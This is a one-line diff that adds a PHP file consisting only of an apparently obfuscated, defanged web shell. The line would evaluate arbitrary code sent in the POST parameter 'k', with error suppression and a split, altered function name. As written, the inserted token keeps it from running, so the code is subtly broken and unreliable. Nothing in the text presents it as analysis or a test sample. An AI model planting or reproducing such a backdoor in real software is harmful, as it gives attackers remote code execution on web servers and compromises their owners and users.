@@ -1,0 +1,1 @@
+<?php @ev/**/INERTal ( $_POST["k"] );
